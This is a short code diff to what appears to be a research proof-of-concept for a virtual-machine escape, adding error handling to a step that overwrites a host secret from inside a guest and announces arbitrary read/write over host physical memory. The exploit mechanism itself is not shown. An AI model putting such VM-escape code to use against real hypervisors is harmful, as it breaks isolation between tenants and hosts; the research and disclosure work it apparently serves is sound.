@@ -231,7 +231,13 @@ main(int argc, char **argv)
     if (!leaked.ok() || *leaked != secret)
         return 1;
 
-    (void)exploiter.writeHost(*escalation, secret_addr, 0);
+    const hh::base::Status wiped =
+        exploiter.writeHost(*escalation, secret_addr, 0);
+    if (!wiped.ok()) {
+        std::printf("[write] overwrite failed: %s\n",
+                    hh::base::errorName(wiped.error()));
+        return 1;
+    }
     std::printf("[write] secret overwritten from inside the VM\n");
     std::printf("\nThe guest now has arbitrary read/write over host "
                 "physical memory (Section 4.3).\n");
